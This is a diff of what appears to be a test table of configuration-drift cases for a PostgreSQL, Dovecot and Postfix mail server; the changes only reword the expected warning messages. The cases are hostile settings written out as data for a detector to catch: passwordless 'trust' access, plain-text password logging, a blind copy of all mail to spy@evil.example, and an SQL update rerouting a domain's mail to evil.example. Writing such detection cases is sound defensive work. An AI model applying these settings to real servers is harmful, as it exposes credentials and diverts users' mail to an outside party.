@@ -51,14 +51,14 @@ def part(name: str) -> Drift:
 NAMES = {
     "trust before ours": hba("local all nobody trust", "lets in without a password"),
     "the network at the database": hba(
-        "host all all 192.0.2.0/24 scram-sha-256", "lets 192.0.2.0 at the database mail"
+        "host all all 192.0.2.0/24 scram-sha-256", "lets 192.0.2.0 connect to the database mail"
     ),
     "a map of Unix users": hba("local all all peer map=x", "maps Unix users"),
     "a setting at the end of dovecot.conf": dovecot(
-        "auth_verbose_passwords = plain", ": auth_verbose_passwords stands in no"
+        "auth_verbose_passwords = plain", ": auth_verbose_passwords is outside"
     ),
     "a passdb for everybody": dovecot(
-        "!include_try /etc/dovecot/more.conf", "!include_try /etc/dovecot/more.conf stands"
+        "!include_try /etc/dovecot/more.conf", "!include_try /etc/dovecot/more.conf is outside"
     ),
     "a copy of all mail": main("always_bcc", "spy@evil.example"),
     "a greeting that opens all": main("smtpd_helo_restrictions", "permit"),
@@ -106,7 +106,7 @@ NAMES = {
     ),
     "mail led away": sql(
         "UPDATE transports SET transport = 'smtp:[evil.example]:25'",
-        "leads example.test elsewhere",
+        "sends mail for example.test elsewhere",
         "UPDATE transports SET transport = 'lmtp:unix:private/dovecot-lmtp'",
         "postgresql.delivery.nothing_beside",
     ),
